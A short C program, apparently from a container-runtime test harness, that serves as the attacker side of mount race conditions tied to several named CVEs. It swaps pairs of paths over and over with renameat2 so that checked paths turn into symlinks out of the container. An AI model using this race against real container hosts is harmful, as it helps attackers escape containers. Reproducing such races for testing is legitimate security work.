// The attacker's half of the mount races (CVE-2021-30465, CVE-2025-31133,
// CVE-2025-52565): exchanges each pair of paths with renameat2
// (RENAME_EXCHANGE), over and over, so that a path the runtime checked is
// another file, typically a symlink out of the container, when it is used.
//
// swap READY SECONDS A1 B1 [A2 B2 ...]: creates READY once running and
// stops after SECONDS (or when killed).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 5 || (argc - 3) % 2) return 2;
    time_t end = time(NULL) + atoi(argv[2]);
    close(open(argv[1], O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    while (time(NULL) < end)
        for (int k = 3; k + 1 < argc; k += 2)
            renameat2(AT_FDCWD, argv[k], AT_FDCWD, argv[k + 1], RENAME_EXCHANGE);
    return 0;
}
